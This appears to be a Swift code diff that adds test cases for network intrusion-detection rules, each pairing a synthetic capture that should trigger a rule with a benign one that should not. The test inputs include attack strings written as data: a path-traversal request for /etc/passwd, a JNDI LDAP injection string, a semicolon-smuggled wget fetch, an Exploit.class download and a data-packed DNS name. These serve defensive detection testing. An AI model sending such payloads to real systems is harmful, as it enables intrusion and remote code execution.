@@ -63,6 +63,16 @@ private func ftp(_ c: inout CaptureBuilder, from: String, to: String, _ answer: 
   c.tcp(
     from: from, to: to, port: 21, "< 220 (vsFTPd 3.0.5)\r\n", "> USER \(user)\r\n", "< 331 Password?\r\n", "> PASS s3cret\r\n", "< \(answer)\r\n")
 }
+/// Keys are exchanged, a password is refused: `serverSays` bytes of it.
+private func refusedLogin(_ c: inout CaptureBuilder, serverSays: Int = 500) {
+  c.tcp(
+    from: neighbour, to: me, port: 22, seconds: 3,
+    [
+      (.server, Octets("SSH-2.0-OpenSSH_9.2\r\n".utf8)), (.client, Octets("SSH-2.0-OpenSSH_9.6\r\n".utf8)),
+      (.client, SSHBuilder.keyExchange(SSHBuilder.lists)), (.server, SSHBuilder.keyExchange(SSHBuilder.lists)),
+      (.client, Octets(repeating: 0xaa, count: 1500)), (.server, Octets(repeating: 0xbb, count: serverSays)),
+    ])
+}
 private func imap(_ c: inout CaptureBuilder, from: String) {
   c.tcp(from: from, to: me, port: 143, "< * OK [CAPABILITY IMAP4rev1] hi\r\n", "> a1 LOGIN \"hal\" \"s3cret\"\r\n", "< a1 OK done\r\n")
 }
@@ -153,6 +163,13 @@ let networkRuleCases: [NetworkRuleCase] = [
     "http-script-fetches-program", fires: { $0.http(from: me, to: outside, "GET", "/bins.sh", agent: "Wget/1.21.3") },
     silent: { $0.http(from: me, to: outside, "GET", "/bins.sh", agent: "Wget/1.21.3", host: "downloads.example.org") }),
   NetworkRuleCase(
+    "http-post-to-bare-address",
+    fires: { $0.http(from: me, to: outside, port: 7080, "POST", "/OK21", agent: "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0)", body: "x") },
+    silent: { $0.http(from: me, to: outside, port: 7080, "POST", "/OK21", agent: "curl/8.5.0", body: "x") }),
+  NetworkRuleCase(
+    "http-class-by-virtual-machine", fires: { $0.http(from: me, to: neighbour, "GET", "/Exploit.class", agent: "Java/1.8.0_51") },
+    silent: { $0.http(from: me, to: neighbour, "GET", "/Exploit.class", agent: "Java/1.8.0_51", host: "classes.example.org") }),
+  NetworkRuleCase(
     "http-attack-series",
     fires: {
       for target in ["/../../../../etc/passwd", "/?x=${jndi:ldap://203.0.113.250/a}", "/x?c=;wget+http://203.0.113.251/m"] {
@@ -175,6 +192,12 @@ let networkRuleCases: [NetworkRuleCase] = [
   NetworkRuleCase(
     "ssh-sessions-repeated", fires: { times(20, every: 4, &$0) { c, _ in c.ssh(from: outside, to: me, seconds: 3) } },
     silent: { times(20, every: 4, &$0) { c, _ in c.ssh(from: outside, to: me, seconds: 45) } }),
+  NetworkRuleCase(
+    "ssh-sessions-refused", fires: { times(8, every: 4, &$0) { c, _ in refusedLogin(&c) } },
+    silent: {
+      times(7, every: 4, &$0) { c, _ in refusedLogin(&c) }
+      times(12, every: 4, &$0) { c, _ in refusedLogin(&c, serverSays: 5000) }
+    }),
   NetworkRuleCase(
     "ssh-sessions-distributed", fires: { times(30, every: 10, &$0) { c, i in c.ssh(from: "198.51.100.\(i + 1)", to: me) } },
     silent: { times(30, every: 10, &$0) { c, i in c.ssh(from: "10.1.1.\(i + 1)", to: me) } }),
@@ -208,7 +231,14 @@ let networkRuleCases: [NetworkRuleCase] = [
   NetworkRuleCase(
     "dns-onion-name", fires: { $0.dns(from: me, to: neighbour, "abcdefghijklmnop.onion") },
     silent: { $0.dns(from: me, to: neighbour, "onion.example.org") }),
+  NetworkRuleCase(
+    "dns-packed-data-in-name", fires: { $0.dns(from: me, to: neighbour, "h4siciajp2yaa3rlc3quzghhdaavjycxwakjehel.a1.test.txt") },
+    silent: { $0.dns(from: me, to: neighbour, "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3.example.org") }),
   // Flows
+  NetworkRuleCase(
+    "currency-peer-network",
+    fires: { times(10, every: 2, &$0) { c, i in c.tcp(from: me, to: "203.0.113.\(i + 1)", port: 30303, "> x", "< y") } },
+    silent: { times(10, every: 2, &$0) { c, i in c.refused(from: me, to: "203.0.113.\(i + 1)", port: 30303) } }),
   exposed("database-from-public", port: 5432), exposed("windows-share-from-public", port: 445), exposed("remote-desktop-from-public", port: 3389),
   exposed("container-interface-from-public", port: 2375), outbound("windows-share-to-public", port: 445, other: 8443),
   outbound("handler-port-connection", port: 4444, other: 8443), outbound("tor-relay-connection", port: 9001, other: 8443),
